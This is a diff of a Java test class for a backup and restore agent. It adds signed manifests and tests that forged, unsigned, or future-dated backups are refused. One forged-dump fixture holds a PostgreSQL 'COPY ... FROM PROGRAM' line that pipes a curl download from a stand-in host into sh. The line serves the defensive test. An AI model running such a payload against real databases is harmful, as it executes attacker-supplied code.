@@ -56,6 +56,8 @@ class BackupRestoreAgentTest {
   private String bucket;
   private Path uploads;
   private Path secrets;
+  private Path signingKey;
+  private Path verificationKey;
 
   @BeforeAll
   static void startS3() throws Exception {
@@ -76,11 +78,13 @@ class BackupRestoreAgentTest {
     s3.createBucket(bucket);
     uploads = AgentFixtures.uploads(tmp.resolve("uploads"));
     secrets = AgentFixtures.secretsMount(Files.createDirectories(tmp.resolve("secrets")));
+    signingKey = Files.writeString(tmp.resolve("signing.asc"), TestKeys.signing().secretKeyRing());
+    verificationKey = Files.writeString(tmp.resolve("verification.asc"), TestKeys.signing().publicKeyRing());
   }
 
   private BackupAgent.Options backupOptions(Path dump, boolean toS3, Retention.Policy policy) {
     return new BackupAgent.Options(STACK, dump, uploads, secrets, null, passphraseFile, backups,
-        toS3 ? s3.settings(bucket, "backups") : null, policy, "loomio/loomio:v3.0.11", 15, null, scratch);
+        toS3 ? s3.settings(bucket, "backups") : null, policy, "loomio/loomio:v3.0.11", 15, null, scratch, signingKey);
   }
 
   private record Run(int code, JsonNode summary, String line) {}
@@ -109,7 +113,7 @@ class BackupRestoreAgentTest {
       List<String> secretKeys) {
     return new RestoreAgent.Options(STACK, backup, fromS3 ? null : backups, fromS3 ? s3.settings(bucket, "backups") : null,
         null, passphraseFile, scratch, databaseOut, uploadsTo, secretKeys == null ? null : "loomio",
-        secretKeys == null ? null : "team-credentials", secretKeys, false);
+        secretKeys == null ? null : "team-credentials", secretKeys, false, verificationKey, false);
   }
 
   private Path dump(int size) throws Exception {
@@ -165,9 +169,11 @@ class BackupRestoreAgentTest {
 
     // the same layout in both places; the manifest describes it
     assertThat(AgentFixtures.tree(backups).keySet()).containsExactly(name, name + "/database.dump.pgp",
-        name + "/manifest.json", name + "/secrets.json.pgp", name + "/uploads.tar.pgp");
+        name + "/manifest.json", name + "/manifest.json.sig", name + "/secrets.json.pgp", name + "/uploads.tar.pgp");
     assertThat(s3.keys(bucket)).containsExactlyInAnyOrder("backups/" + name + "/database.dump.pgp",
-        "backups/" + name + "/manifest.json", "backups/" + name + "/secrets.json.pgp", "backups/" + name + "/uploads.tar.pgp");
+        "backups/" + name + "/manifest.json", "backups/" + name + "/manifest.json.sig",
+        "backups/" + name + "/secrets.json.pgp", "backups/" + name + "/uploads.tar.pgp");
+    assertThat(b.summary().path("signedBy").asText()).isEqualTo(TestKeys.signing().fingerprint());
     Manifest m = new DirectoryDestination(backups, STACK).readManifest(name).orElseThrow();
     assertThat(m.formatVersion()).isEqualTo(1);
     assertThat(m.stack()).isEqualTo(STACK);
@@ -279,7 +285,7 @@ class BackupRestoreAgentTest {
       }
     }
     entries.add(store(dest, name, enc, "uploads", tarBytes.toByteArray()));
-    dest.writeManifest(new Manifest(1, name, STACK, "2025-01-05T02:00:00Z", null, null, "volume", null,
+    signed(dest, new Manifest(1, name, STACK, "2025-01-05T02:00:00Z", null, null, "volume", null,
         new Manifest.Encryption("passphrase", null), entries));
 
     Path restoredUploads = Files.createDirectories(tmp.resolve("area/uploads"));
@@ -293,6 +299,11 @@ class BackupRestoreAgentTest {
     assertThat(databaseOut).doesNotExist();
     assertThat(tmp.resolve("area/escaped")).doesNotExist();
     assertThat(AgentFixtures.tree(restoredUploads)).containsOnlyKeys("current-file");
+  }
+
+  /** Writes a manifest with the stack's own signature, as the backup agent does. */
+  private static void signed(Destination dest, Manifest m) throws Exception {
+    dest.writeManifest(m, OpenPgp.signerFrom(TestKeys.signing().secretKeyRing()).sign(m.toJson()));
   }
 
   private Manifest.Entry store(Destination dest, String backup, OpenPgp.Encryptor enc, String kind, byte[] plain)
@@ -330,12 +341,18 @@ class BackupRestoreAgentTest {
   }
 
   @Test
-  void prunesByRetentionOnlyThisStacksBackups() throws Exception {
-    // older complete backups, an old and a fresh incomplete one, and another stack's
-    for (String old : List.of("team-20241201T020000Z", "team-20241202T020000Z", "team-20241203T020000Z")) {
-      Files.createDirectories(backups.resolve(old));
-      Files.writeString(backups.resolve(old).resolve("manifest.json"), "{}");
+  void prunesByRetentionOnlyThisStacksSignedBackups() throws Exception {
+    // older complete backups made by the agent (signed), an old and a fresh incomplete one, another stack's,
+    // and "complete" ones this stack's key did not sign: unsigned (or from before signing) and forged
+    for (String old : List.of("2024-12-01T02:00:00Z", "2024-12-02T02:00:00Z", "2024-12-03T02:00:00Z")) {
+      assertThat(backup(old, backupOptions(dump(1000), false, Retention.Policy.DEFAULT)).code()).isZero();
     }
+    Files.createDirectories(backups.resolve("team-20241130T020000Z"));
+    Files.writeString(backups.resolve("team-20241130T020000Z/manifest.json"), "{}"); // unsigned, unreadable
+    Manifest forged = new Manifest(1, "team-20241129T020000Z", STACK, "2024-11-29T02:00:00Z", null, null, "none",
+        null, new Manifest.Encryption("passphrase", null), List.of());
+    new DirectoryDestination(backups, STACK).writeManifest(forged,
+        OpenPgp.signerFrom(TestKeys.otherSigning().secretKeyRing()).sign(forged.toJson()));
     Files.createDirectories(backups.resolve("team-20241204T020000Z")); // failed long ago: no manifest
     Files.createDirectories(backups.resolve("team-20250105T010000Z")); // an hour old, incomplete: may be running
     Files.createDirectories(backups.resolve("other-20241201T020000Z"));
@@ -347,8 +364,151 @@ class BackupRestoreAgentTest {
         .containsExactly("team-20241201T020000Z", "team-20241202T020000Z", "team-20241204T020000Z");
     try (Stream<Path> left = Files.list(backups)) {
       assertThat(left.map(p -> p.getFileName().toString()).toList()).containsExactlyInAnyOrder(
-          "team-20241203T020000Z", "team-20250105T010000Z", "team-20250105T020000Z", "other-20241201T020000Z");
+          "team-20241203T020000Z", "team-20250105T010000Z", "team-20250105T020000Z", "other-20241201T020000Z",
+          "team-20241130T020000Z", "team-20241129T020000Z");
     }
+  }
+
+  /** How a forger signs: not at all, with their own key, or with a signature copied from another manifest. */
+  private enum Forgery { UNSIGNED, OTHER_KEY, COPIED_SIGNATURE, STACK_KEY }
+
+  /**
+   * A backup made by hand, as someone with write access to the store and the stack's PUBLIC key can make one:
+   * valid encryption to the stack's recipient (alice), right checksums; the manifest signed as {@code how}.
+   */
+  private void forge(String name, String createdAt, byte[] dumpBytes, Forgery how) throws Exception {
+    OpenPgp.Encryptor enc = OpenPgp.encryptTo(OpenPgp.readRecipients(TestKeys.alice().publicKeyRing()));
+    DirectoryDestination dest = new DirectoryDestination(backups, STACK);
+    Manifest m = new Manifest(1, name, STACK, createdAt, null, 15, "none", null,
+        new Manifest.Encryption("publicKey", List.of(TestKeys.alice().fingerprint())),
+        List.of(store(dest, name, enc, "database", dumpBytes)));
+    byte[] signature = switch (how) {
+      case UNSIGNED -> null;
+      case OTHER_KEY -> OpenPgp.signerFrom(TestKeys.otherSigning().secretKeyRing()).sign(m.toJson());
+      case COPIED_SIGNATURE -> Files.readAllBytes(backups.resolve("team-20250105T020000Z/manifest.json.sig"));
+      case STACK_KEY -> OpenPgp.signerFrom(TestKeys.signing().secretKeyRing()).sign(m.toJson());
+    };
+    dest.writeManifest(m, signature);
+  }
+
+  private BackupAgent.Options publicKeyBackup(Path dump) throws Exception {
+    Path recipients = Files.writeString(tmp.resolve("recipients.asc"), TestKeys.alice().publicKeyRing());
+    return new BackupAgent.Options(STACK, dump, null, null, recipients, null, backups, null, Retention.Policy.DEFAULT,
+        null, 15, null, scratch, signingKey);
+  }
+
+  private RestoreAgent.Options publicKeyRestore(String backup, Path databaseOut, boolean allowUnsigned)
+      throws Exception {
+    Path privateKey = Files.writeString(tmp.resolve("private.asc"), TestKeys.alice().secretKeyRing());
+    return new RestoreAgent.Options(STACK, backup, backups, null, privateKey, null, scratch, databaseOut, null, null,
+        null, null, false, verificationKey, allowUnsigned);
+  }
+
+  @Test
+  void forgedBackupsAreRefusedByRestoreAndPassedOverByLatest() throws Exception {
+    byte[] genuine = Files.readAllBytes(dump(1000));
+    assertThat(backup("2025-01-05T02:00:00Z", publicKeyBackup(dump(1000))).code()).isZero();
+    byte[] evil = "PGDMP -- COPY x FROM PROGRAM 'curl evil | sh'".getBytes(StandardCharsets.US_ASCII);
+    forge("team-20250106T020000Z", "2025-01-06T02:00:00Z", evil, Forgery.UNSIGNED);
+    forge("team-20250107T020000Z", "2025-01-07T02:00:00Z", evil, Forgery.OTHER_KEY);
+    forge("team-20250108T020000Z", "2025-01-08T02:00:00Z", evil, Forgery.COPIED_SIGNATURE);
+    Path databaseOut = tmp.resolve("database.dump");
+
+    // latest: the newest backup this stack signed, never a newer forgery; the ones passed over are reported
+    Run latest = restore(publicKeyRestore("latest", databaseOut, false));
+    assertThat(latest.code()).as(latest.line()).isZero();
+    assertThat(latest.summary().path("backup").asText()).isEqualTo("team-20250105T020000Z");
+    assertThat(latest.summary().path("signedBy").asText()).isEqualTo(TestKeys.signing().fingerprint());
+    assertThat(Files.readAllBytes(databaseOut)).isEqualTo(genuine);
+    assertThat(latest.summary().path("refusedBackups")).hasSize(3);
+    assertThat(latest.summary().path("refusedBackups").toString()).contains("team-20250108T020000Z",
+        "team-20250107T020000Z", "team-20250106T020000Z");
+    Files.delete(databaseOut);
+
+    // named: refused, saying why, with nothing downloaded or restored
+    Map<String, String> why = Map.of(
+        "team-20250106T020000Z", "has no signature (manifest.json.sig)",
+        "team-20250107T020000Z", "which is not the stack's signing key",
+        "team-20250108T020000Z", "does not match the manifest");
+    for (Map.Entry<String, String> forged : why.entrySet()) {
+      Run r = restore(publicKeyRestore(forged.getKey(), databaseOut, false));
+      assertThat(r.code()).as(r.line()).isEqualTo(1);
+      assertThat(r.summary().path("refused").asBoolean()).isTrue();
+      assertThat(r.summary().path("error").asText()).contains(forged.getValue(), "nothing was restored");
+      assertThat(databaseOut).doesNotExist();
+      assertEmpty(scratch);
+    }
+    // a bad signature is a forgery, not an old backup: allowUnsigned does not let it through
+    Run bad = restore(publicKeyRestore("team-20250107T020000Z", databaseOut, true));
+    assertThat(bad.summary().path("refused").asBoolean()).as(bad.line()).isTrue();
+    assertThat(databaseOut).doesNotExist();
+  }
+
+  @Test
+  void onS3TooLatestPassesOverAForgeryAndANamedOneIsRefused() throws Exception {
+    assertThat(backup("2025-01-05T02:00:00Z", backupOptions(dump(1000), true, Retention.Policy.DEFAULT)).code())
+        .isZero();
+    // a newer backup written straight into the bucket, encrypted with the stack's passphrase, unsigned
+    String name = "team-20250106T020000Z";
+    try (S3Destination bucketDest = new S3Destination(s3.settings(bucket, "backups"), STACK)) {
+      OpenPgp.Encryptor enc = OpenPgp.encryptWithPassphrase(PASSPHRASE.toCharArray());
+      Manifest m = new Manifest(1, name, STACK, "2025-01-06T02:00:00Z", null, 15, "none", null,
+          new Manifest.Encryption("passphrase", null), List.of(store(bucketDest, name, enc, "database",
+              "PGDMP forged".getBytes(StandardCharsets.US_ASCII))));
+      bucketDest.writeManifest(m);
+    }
+    Path databaseOut = tmp.resolve("database.dump");
+    Run latest = restore(restoreOptions("latest", true, databaseOut, null, null));
+    assertThat(latest.code()).as(latest.line()).isZero();
+    assertThat(latest.summary().path("backup").asText()).isEqualTo("team-20250105T020000Z");
+    assertThat(latest.summary().path("refusedBackups").toString()).contains(name, "has no signature");
+    Files.delete(databaseOut);
+    Run named = restore(restoreOptions(name, true, databaseOut, null, null));
+    assertThat(named.summary().path("refused").asBoolean()).as(named.line()).isTrue();
+    assertThat(databaseOut).doesNotExist();
+  }
+
+  @Test
+  void backupsDatedInTheFutureAreRefusedEvenWhenSigned() throws Exception {
+    assertThat(backup("2025-01-05T02:00:00Z", publicKeyBackup(dump(1000))).code()).isZero();
+    byte[] evil = "PGDMP from the future".getBytes(StandardCharsets.US_ASCII);
+    forge("team-20991231T235959Z", "2099-12-31T23:59:59Z", evil, Forgery.STACK_KEY);
+    forge("team-20991230T000000Z", "2099-12-30T00:00:00Z", evil, Forgery.UNSIGNED);
+    Path databaseOut = tmp.resolve("database.dump");
+
+    Run latest = restore(publicKeyRestore("latest", databaseOut, false));
+    assertThat(latest.summary().path("backup").asText()).as(latest.line()).isEqualTo("team-20250105T020000Z");
+    assertThat(latest.summary().path("refusedBackups").toString()).contains("dated in the future");
+    Files.delete(databaseOut);
+    Run named = restore(publicKeyRestore("team-20991231T235959Z", databaseOut, false));
+    assertThat(named.code()).isEqualTo(1);
+    assertThat(named.summary().path("error").asText()).contains("team-20991231T235959Z is dated in the future");
+    assertThat(databaseOut).doesNotExist();
+    // within the allowed clock skew a backup is not "in the future"
+    RestoreAgent skewed = new RestoreAgent(() -> client, BackupAgent.Destinations.DEFAULT,
+        AgentFixtures.at("2025-01-05T01:57:00Z"));
+    assertThat(skewed.execute(publicKeyRestore("latest", databaseOut, false), null, new AgentFixtures.Out().writer))
+        .isZero();
+  }
+
+  @Test
+  void anUnsignedBackupIsRestoredOnlyByNameWithAllowUnsigned() throws Exception {
+    byte[] old = "PGDMP made before backups were signed".getBytes(StandardCharsets.US_ASCII);
+    forge("team-20250101T020000Z", "2025-01-01T02:00:00Z", old, Forgery.UNSIGNED);
+    Path databaseOut = tmp.resolve("database.dump");
+
+    Run latest = restore(publicKeyRestore("latest", databaseOut, false));
+    assertThat(latest.code()).isEqualTo(1);
+    assertThat(latest.summary().path("error").asText()).contains("no complete backup of stack team", "is signed");
+    Run latestAllowed = restore(publicKeyRestore("latest", databaseOut, true));
+    assertThat(latestAllowed.summary().path("error").asText()).contains("--allow-unsigned needs a backup named");
+
+    Run named = restore(publicKeyRestore("team-20250101T020000Z", databaseOut, true));
+    assertThat(named.code()).as(named.line()).isZero();
+    assertThat(named.summary().path("unsigned").asBoolean()).isTrue();
+    assertThat(named.summary().has("signedBy")).isFalse();
+    assertThat(Files.readAllBytes(databaseOut)).isEqualTo(old);
+    assertThat(LOGS.messages()).anySatisfy(m -> assertThat(m).contains("restoring an UNSIGNED backup"));
   }
 
   @Test
@@ -367,14 +527,14 @@ class BackupRestoreAgentTest {
         .summary().path("error").asText()).contains("not a pg_dump custom-format archive");
 
     BackupAgent.Options both = new BackupAgent.Options(STACK, dump(1000), null, null, passphraseFile, passphraseFile,
-        backups, null, Retention.Policy.DEFAULT, null, null, null, scratch);
+        backups, null, Retention.Policy.DEFAULT, null, null, null, scratch, signingKey);
     assertThat(backup("2025-01-05T02:00:00Z", both).summary().path("error").asText()).contains("exactly one of");
 
     // an unreachable bucket: the run fails, nothing is complete anywhere, no plaintext is left
     Path dump = dump(1000);
     BackupAgent.Options unreachable = new BackupAgent.Options(STACK, dump, null, null, null, passphraseFile, backups,
         new S3Destination.Settings(s3.endpoint(), "no-such-bucket", "", null, true, null, null, S3Server.ACCESS_KEY,
-            S3Server.SECRET_KEY, null), Retention.Policy.DEFAULT, null, null, null, scratch);
+            S3Server.SECRET_KEY, null), Retention.Policy.DEFAULT, null, null, null, scratch, signingKey);
     Run u = backup("2025-01-05T03:00:00Z", unreachable);
     assertThat(u.code()).isEqualTo(1);
     assertThat(u.summary().path("backup").asText()).isEqualTo("team-20250105T030000Z");
